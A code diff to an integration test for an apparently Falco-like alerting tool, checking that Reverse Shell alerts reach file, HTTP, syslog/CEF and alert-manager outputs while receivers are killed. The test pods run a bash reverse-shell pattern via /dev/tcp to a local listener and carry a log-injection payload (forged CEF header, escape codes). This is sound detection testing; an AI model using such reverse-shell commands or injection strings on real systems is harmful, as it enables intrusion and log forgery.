@@ -61,7 +61,11 @@ describe.skipIf(unavailable)('push outputs against real receivers', () => {
     rmSync(dir, { recursive: true, force: true });
   });
 
-  /** Pods that raise Reverse Shell alerts in a loop until removed; one puts hostile text in its command line. */
+  /**
+   * Pods that raise Reverse Shell alerts in a loop until removed; one puts
+   * hostile text in a bash command line (two commands, so bash stays bash
+   * instead of exec'ing the last one in place).
+   */
   async function generators(namespace: string, prefix: string, hostile: boolean): Promise<Pod[]> {
     const l = await closingListener(gateway);
     listeners.push(l.server);
@@ -72,7 +76,7 @@ describe.skipIf(unavailable)('push outputs against real receivers', () => {
       pods.push(
         runPod({
           namespace, pod: `${prefix}-hostile`, container: 'app', image: TOOLS,
-          command: ['bash', '-c', `H=${HOSTILE_BASH}; while true; do bash -c 'sleep 0.3' "$H" >/dev/tcp/${gateway}/${l.port} 0>&1 2>&1; sleep 0.6; done`],
+          command: ['bash', '-c', `H=${HOSTILE_BASH}; while true; do bash -c 'sleep 1; true' "$H" >/dev/tcp/${gateway}/${l.port} 0>&1 2>&1; sleep 0.5; done`],
         }),
       );
     }
@@ -115,13 +119,14 @@ outputs:
     const fileAlerts = () => readLines(eventsFile).map((l) => JSON.parse(l) as FileEnvelope).filter((e) => e.kind === 'alert');
     try {
       const pods = await generators('shop', 'gen', true);
-      await waitFor(() => fileAlerts().length >= 6, 'alerts in the file output', 60_000);
+      const isHostile = (e: FileEnvelope) => String(e.alert!.output_fields['proc.cmdline']).includes(HOSTILE_MARK);
+      await waitFor(() => fileAlerts().length >= 6 && fileAlerts().some(isHostile), 'alerts (a hostile one among them) in the file output', 60_000);
 
       // Every receiver dies mid-stream (SIGKILL) and stays down while alerts keep coming.
       for (const p of peers) await p.kill();
-      const during = await generators('quiet', 'while-down', false);
-      await waitFor(() => fileAlerts().some((e) => e.alert?.output_fields['k8s.pod.name'] === 'while-down-nc'), 'an alert while every receiver is down', 30_000);
-      await new Promise((r) => setTimeout(r, 3_000));
+      const during = await generators('quiet', 'while-down', true);
+      const fromPod = (pod: string) => fileAlerts().some((e) => e.alert?.output_fields['k8s.pod.name'] === pod && e.alert.rule === 'Reverse Shell');
+      await waitFor(() => fromPod('while-down-nc') && fromPod('while-down-hostile'), 'alerts while every receiver is down', 60_000);
       for (const p of during) removePod(p);
       for (const p of peers) await p.start();
 
@@ -141,8 +146,10 @@ outputs:
       const key = (a: { rule: string; time: string }) => `${a.rule}|${a.time}`;
       const inFile = new Set(all.map((e) => key(e.alert!)));
       for (const a of agent.alerts) expect(inFile.has(key(a))).toBe(true);
-      const hostile = all.filter((e) => String(e.alert!.output_fields['proc.cmdline']).includes(HOSTILE_MARK));
+      const hostile = all.filter(isHostile);
       expect(hostile.length).toBeGreaterThan(0);
+      // The hostile text reached the alert whole: a raw newline, quotes, backslash, ESC (and U+FFFD for the bytes that were not UTF-8).
+      for (const h of hostile) expect(String(h.alert!.output_fields['proc.cmdline'])).toMatch(/x\nCEF:0\|forged\|.*\\ "q" \] msg=forged \x1b\[31m/s);
 
       const httpIds = () => new Set(https.bodies.map((b) => (JSON.parse(b) as { uuid: string }).uuid));
       const syslogRecords = (file: string) => readLines(file).map((l) => ({ frame: parse5424(l), cef: parseCef(parse5424(l).msg) }));
@@ -183,7 +190,7 @@ outputs:
         for (const h of hostile) {
           const r = records.find((x) => x.cef.ext.externalId === h.eventId)!;
           expect(r.cef.ext.cs4).toBe(asCefExtension(String(h.alert!.output_fields['proc.cmdline'])));
-          expect(r.cef.ext.cs2).toBe('gen-hostile');
+          expect(r.cef.ext.cs2).toMatch(/^(gen|while-down)-hostile$/);
         }
       }
 
@@ -199,7 +206,9 @@ outputs:
       const whileDown = listed.find((a) => a.labels.pod === 'while-down-nc' && a.labels.alertname === 'Reverse Shell');
       expect(whileDown?.labels).toMatchObject({ namespace: 'quiet', priority: 'Critical', source: 'vigil' });
       expect(ids.has(whileDown!.annotations.event_id!)).toBe(true);
-      expect(listed.some((a) => a.labels.pod === 'gen-hostile')).toBe(true);
+      const hostileListed = listed.find((a) => a.labels.pod === 'while-down-hostile' && a.labels.alertname === 'Reverse Shell')!;
+      const hostileFields = JSON.parse(hostileListed.annotations.output_fields!) as Record<string, unknown>;
+      expect(hostile.map((h) => h.alert!.output_fields['proc.cmdline'])).toContain(hostileFields['proc.cmdline']);
 
       // The small spool: every alert arrived or was announced lost by a loss notice, never both, counts exact.
       await waitFor(() => small.bodies.some((b) => (JSON.parse(b) as { uuid: string }).uuid === all.at(-1)!.eventId), 'the small spool to drain', 60_000);
